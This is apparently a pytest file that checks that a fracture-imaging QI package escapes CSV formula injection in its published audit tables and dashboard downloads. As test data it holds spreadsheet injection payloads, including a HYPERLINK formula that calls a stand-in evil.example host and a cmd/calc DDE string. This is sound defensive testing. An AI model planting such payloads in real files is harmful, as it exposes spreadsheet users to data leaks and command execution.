"""CSV formula injection (issue 21 item 2): one writer for every CSV, formulas escaped.

A site whose DICOM ``InstitutionName`` is a spreadsheet formula must reach the published
audit tables and the dashboard's download as text, never as a formula; real numbers must
stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest
import sqlalchemy as sa

from fracture_qi.csvsafe import (
    DictWriter,
    escape_cell,
    escape_frame,
    frame_to_csv,
    is_formula,
    unescape_cell,
)

PACKAGE = Path(__file__).resolve().parents[1] / "fracture_qi"
EVIL_SITE = '=HYPERLINK("http://evil.example/?q=1","St Brigids")'


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def no_live_formula(text: str) -> None:
    """Every cell of a CSV is safe to open in a spreadsheet."""
    for row in cells(text):
        for cell in row:
            assert not is_formula(cell), f"formula cell {cell!r} in {row}"


@pytest.mark.parametrize("value", ["=1+1", "+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
                                   "  =1", EVIL_SITE])
def test_formula_starts_are_escaped(value: str) -> None:
    assert escape_cell(value) == "'" + value
    assert unescape_cell(escape_cell(value)) == value


@pytest.mark.parametrize("value", ["-1.5", "+2", "-3e-4", ".5", "North General", "", "a=b",
                                   "'already text"])
def test_plain_text_and_numbers_are_left_alone(value: str) -> None:
    assert escape_cell(value) == value


def test_numbers_stay_numbers_in_a_frame() -> None:
    df = pd.DataFrame({
        "site": [EVIL_SITE, "-", "North"], "delta": [-1.5, 2.0, -0.25], "n": [-3, 4, 5],
        "text_number": ["-7", "+8", "-1e3"],
        "cat": pd.Categorical(["@x", "y", "@x"]),
    })
    out = escape_frame(df)
    assert out["delta"].tolist() == [-1.5, 2.0, -0.25] and out["n"].dtype == df["n"].dtype
    assert out["text_number"].tolist() == ["-7", "+8", "-1e3"]
    assert out["site"].tolist() == ["'" + EVIL_SITE, "'-", "North"]
    assert out["cat"].tolist() == ["'@x", "y", "'@x"]
    text = frame_to_csv(df)
    no_live_formula(text)
    assert cells(text)[1][1:3] == ["-1.5", "-3"]  # a negative number is still a number
    assert df["site"].tolist()[0] == EVIL_SITE  # the caller's frame is not changed


def test_dict_writer_escapes_rows_and_header() -> None:
    buf = io.StringIO()
    w = DictWriter(buf, ["path", "=score"])
    w.writeheader()
    w.writerow({"path": "=cmd|' /C calc'!A0", "=score": -1.25})
    no_live_formula(buf.getvalue())
    assert cells(buf.getvalue())[1] == ["'=cmd|' /C calc'!A0", "-1.25"]


def test_csv_sink_escapes_folder_names(tmp_path: Path) -> None:
    from types import SimpleNamespace

    from fracture_qi.screening.results import CsvSink

    sink = CsvSink(tmp_path / "out")
    sink.write_problem(SimpleNamespace(path=str(tmp_path / "=HYPERLINK(1)" / "x.dcm"),
                                       reason="NOT_DICOM"))
    sink.write_unscreened(SimpleNamespace(folder="@evil", study_instance_uid="1.2",
                                          series_instance_uid="1.2.3"),
                          status="excluded", reason="NOT_CT")
    sink.close()
    text = (tmp_path / "out" / "studies.csv").read_text()
    no_live_formula(text)
    assert "'@evil" in text


def test_every_csv_writer_in_the_package_goes_through_csvsafe() -> None:
    """No module writes CSV itself: a new writer would bypass the escaping."""
    pattern = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(")
    offenders = [
        f"{p.relative_to(PACKAGE.parent)}:{i}"
        for p in PACKAGE.rglob("*.py") if p.name != "csvsafe.py"
        for i, line in enumerate(p.read_text().splitlines(), 1)
        if pattern.search(line) and not line.lstrip().startswith("#")
    ]
    assert not offenders, f"write CSV through fracture_qi.csvsafe instead: {offenders}"


# --------------------------------------------------------------------------------------------
# end to end: a site named by a formula, through a publication run and the dashboard
# --------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def evil_site(tmp_path_factory: pytest.TempPathFactory):  # type: ignore[no-untyped-def]
    from fracture_qi.simulation import make_fixture_site
    from fracture_qi.store import open_store
    from fracture_qi.store import schema as S

    folder = tmp_path_factory.mktemp("evil-site")
    manifest = make_fixture_site(folder, studies=500, seed=5)
    engine = open_store(str(manifest))
    # what the index stores for a study whose InstitutionName is the formula
    with engine.begin() as conn:
        conn.execute(sa.update(S.Study).where(S.Study.site == "North General")
                     .values(site=EVIL_SITE))
    yield manifest, engine
    engine.dispose()


@pytest.mark.slow
def test_formula_site_is_text_in_published_tables(evil_site) -> None:  # type: ignore[no-untyped-def]
    from fracture_qi.reporting.run import run_audit

    manifest, _ = evil_site
    out = manifest.parent / "reports" / "evil"
    result = run_audit(manifest, out, {"screen": "false"}, publish=True, jobs=1,
                       notebooks=["01_cohort_screening.ipynb", "02_ai_vs_nurse.ipynb"])
    assert result.status == "ok" and result.published, result.summary()
    for name in ("cohort_by_site.csv", "ppv_by_site.csv"):
        text = (out / "tables" / name).read_text()
        assert "'" + EVIL_SITE.replace('"', '""') in text, (name, text[:500])
        no_live_formula(text)
    for table in (out / "tables").glob("*.csv"):
        no_live_formula(table.read_text())


def test_formula_site_is_text_in_the_dashboard_download(evil_site, tmp_path) -> None:  # type: ignore[no-untyped-def]
    from fracture_qi.dashboards.app import QIDashboard
    from fracture_qi.dashboards.cube import cube_from_engine

    _, engine = evil_site
    dash = QIDashboard(cube_from_engine(engine, cache_dir=tmp_path), mode="internal")
    view = dash.view({}, breakdown_dim="site")
    with zipfile.ZipFile(io.BytesIO(view.csv_zip())) as z:
        by_site = z.read("by_site.csv").decode()
        assert "'" + EVIL_SITE.replace('"', '""') in by_site, by_site[:500]
        for name in z.namelist():
            no_live_formula(z.read(name).decode())
